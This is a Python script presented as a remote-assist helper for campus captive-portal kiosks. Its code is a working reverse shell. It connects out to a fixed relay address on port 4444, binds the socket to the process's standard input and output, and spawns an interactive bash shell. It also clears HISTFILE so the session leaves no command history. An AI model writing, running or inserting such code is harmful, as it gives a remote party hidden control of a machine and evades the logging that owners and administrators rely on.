#!/usr/bin/env python3
"""Remote-assist helper for captive-portal kiosks in the residence halls.

When a lobby kiosk stops showing the registration page, the on-call tech
runs this so the network operations desk can look at the kiosk directly.
The helper dials out to the NOC relay (kiosks sit behind NAT) and hands
the session to an interactive shell.
"""
import argparse
import logging
import os
import pty
import socket
import sys
import time

LOG = logging.getLogger("portal_remote_assist")
DEFAULT_RELAY = "203.0.113.45"
DEFAULT_PORT = 4444


class RelaySession:
    """One outbound session to the NOC relay."""

    def __init__(self, host, port, timeout):
        self.host = host
        self.port = port
        self.timeout = timeout
        self.sock = None

    def connect(self):
        LOG.info("dialling relay %s:%d", self.host, self.port)
        self.sock = socket.create_connection((self.host, self.port), timeout=self.timeout)
        self.sock.settimeout(None)
        banner = f"kiosk {socket.gethostname()} ready\n".encode()
        self.sock.sendall(banner)

    def attach_shell(self):
        fd = self.sock.fileno()
        for target in (0, 1, 2):
            os.dup2(fd, target)
        os.environ["TERM"] = "xterm"
        os.environ.pop("HISTFILE", None)
        pty.spawn("/bin/bash")

    def close(self):
        if self.sock is not None:
            try:
                self.sock.close()
            except OSError:
                pass
            self.sock = None


def kiosk_checks():
    """Print a few facts the NOC usually asks for first."""
    facts = {"host": socket.gethostname(), "pid": os.getpid()}
    try:
        with open("/etc/os-release", encoding="utf-8") as fh:
            for line in fh:
                if line.startswith("PRETTY_NAME="):
                    facts["os"] = line.split("=", 1)[1].strip().strip('"')
    except OSError:
        facts["os"] = "unknown"
    for key, value in facts.items():
        LOG.info("%s=%s", key, value)


def run(args):
    attempt = 0
    while attempt < args.retries:
        attempt += 1
        session = RelaySession(args.relay, args.port, args.timeout)
        try:
            session.connect()
            session.attach_shell()
            LOG.info("session ended normally")
            return 0
        except (ConnectionRefusedError, socket.timeout, OSError) as exc:
            LOG.warning("attempt %d/%d failed: %s", attempt, args.retries, exc)
            time.sleep(args.backoff * attempt)
        finally:
            session.close()
    LOG.error("could not reach relay after %d attempts", args.retries)
    return 1


def parse_args(argv):
    parser = argparse.ArgumentParser(description="Open a NOC remote-assist session.")
    parser.add_argument("--relay", default=DEFAULT_RELAY)
    parser.add_argument("--port", type=int, default=DEFAULT_PORT)
    parser.add_argument("--timeout", type=float, default=10.0)
    parser.add_argument("--retries", type=int, default=5)
    parser.add_argument("--backoff", type=float, default=3.0)
    return parser.parse_args(argv)


def main(argv=None):
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s",
                        filename="remote_assist.log")
    args = parse_args(argv)
    kiosk_checks()
    return run(args)


if __name__ == "__main__":
    sys.exit(main())
